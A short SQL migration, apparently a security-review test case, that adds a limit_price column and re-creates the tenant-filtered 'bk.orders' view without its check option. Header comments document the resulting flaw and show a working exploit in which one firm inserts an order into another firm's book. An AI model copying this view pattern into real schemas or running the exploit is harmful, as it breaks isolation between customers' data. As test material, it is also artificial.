-- A firm puts an order into the book of another: the view lost its check option when a column was added.
-- about: orders
-- as: hf_brokerage_app
-- exploit: SET brokerage.firm = 'a0000000-0000-4000-8000-000000000000';
-- exploit: INSERT INTO bk.orders (firm_id, order_no, portfolio_id, isin, side, pieces)
-- exploit: VALUES ('b0000000-0000-4000-8000-000000000000', 99, 'b0000000-0000-4000-8000-000000000001',
-- exploit: 'XX01', 'buy', 1);
-- shows: INSERT 0 1
-- Orders may have a limit.
ALTER TABLE bkdata.orders ADD COLUMN limit_price numeric(12,4);
CREATE OR REPLACE VIEW bk.orders WITH (security_barrier = true) AS
  SELECT firm_id, order_no, portfolio_id, isin, side, pieces, status, memo, limit_price
  FROM bkdata.orders
  WHERE firm_id = bk.firm();
GRANT INSERT, UPDATE ON bk.orders TO hf_brokerage_app;
